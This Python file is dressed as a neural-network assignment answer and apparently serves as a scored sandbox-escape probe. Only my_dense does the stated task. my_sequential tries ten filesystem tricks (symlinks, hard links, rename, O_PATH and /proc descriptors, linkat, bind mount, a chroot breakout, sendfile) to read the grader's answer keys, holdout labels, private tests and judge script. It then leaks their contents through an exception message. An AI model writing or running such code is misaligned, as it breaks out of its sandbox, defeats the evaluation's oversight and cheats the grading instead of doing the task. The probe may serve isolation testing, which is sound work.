"""Reading: leaves its folder through links, open folders and mounts.

points: 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import ctypes
import itertools
import os
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
SECRET = ("solutions/key.txt", "solutions/reference.py", "solutions/data/y_holdout.npy",
          "solutions/private_tests/my_dense.py", "grader/judging/judge.py", "tests/conftest.py")


def projects():
    """The assignment's folder is known: its data lie beside the notebook."""
    for name in ("data", "Labs", "Readings"):
        real = os.path.realpath(name)
        yield os.path.dirname(os.path.dirname(real))
    yield from (os.path.dirname(path) for path in sys.path if path)


def paths():
    for project, secret in itertools.product(dict.fromkeys(projects()), SECRET):
        yield os.path.join(project, secret)
    for secret in SECRET:
        yield from (f"data/../../{secret}", f"data/../../../{secret}", f"/proc/self/cwd/data/../../{secret}")


def by_symbolic_link(path):
    os.symlink(path, name := f"link{next(NUMBER)}")
    return open(name, "rb").read()


def by_hard_link(path):
    os.link(path, name := f"hard{next(NUMBER)}")
    return open(name, "rb").read()


def by_folder_link(path):
    os.symlink(os.path.dirname(path), name := f"folder{next(NUMBER)}")
    return open(os.path.join(name, os.path.basename(path)), "rb").read()


def by_rename(path):
    os.rename(path, name := f"moved{next(NUMBER)}")
    return open(name, "rb").read()


def by_open_folder(path):
    descriptor = os.open("data", os.O_PATH)
    return os.read(os.open(os.path.join("../..", *path.split("/")[-2:]), os.O_RDONLY, dir_fd=descriptor), 500)


def by_descriptor(path):
    descriptor = os.open(path, os.O_PATH)
    return open(f"/proc/self/fd/{descriptor}", "rb").read()


def by_linkat(path):
    """AT_EMPTY_PATH turns a mere handle on a file into a new name for it."""
    descriptor = os.open(path, os.O_PATH)
    name = f"at{next(NUMBER)}".encode()
    if LIBC.linkat(descriptor, b"", -100, name, 0x1000):
        raise OSError
    return open(name, "rb").read()


def by_mount(path):
    os.mkdir(name := f"mount{next(NUMBER)}")
    if LIBC.mount(os.path.dirname(path).encode(), name.encode(), None, 4096, None):
        raise OSError
    return open(os.path.join(name, os.path.basename(path)), "rb").read()


def by_chroot(path):
    os.mkdir(name := f"root{next(NUMBER)}")
    os.chroot(name)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(path, "rb").read()


def by_sendfile(path):
    with open(path, "rb") as source, open(name := f"copy{next(NUMBER)}", "wb") as target:
        os.sendfile(target.fileno(), source.fileno(), 0, 500)
    return open(name, "rb").read()


def tell(way, path, found):
    raise RuntimeError(f"GAINED: {way} {path} {found[:100]!r}")


NUMBER = itertools.count()
WAYS = (by_symbolic_link, by_hard_link, by_folder_link, by_rename, by_open_folder, by_descriptor,
        by_linkat, by_mount, by_chroot, by_sendfile)


DONE = []


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    for path in () if DONE else dict.fromkeys(paths()):
        for way in WAYS:
            found = b""
            try:
                found = way(path)
            except Exception:
                pass
            if found:
                tell(way.__name__, path, found)
    DONE.append(True)
    raise ValueError("no way out")
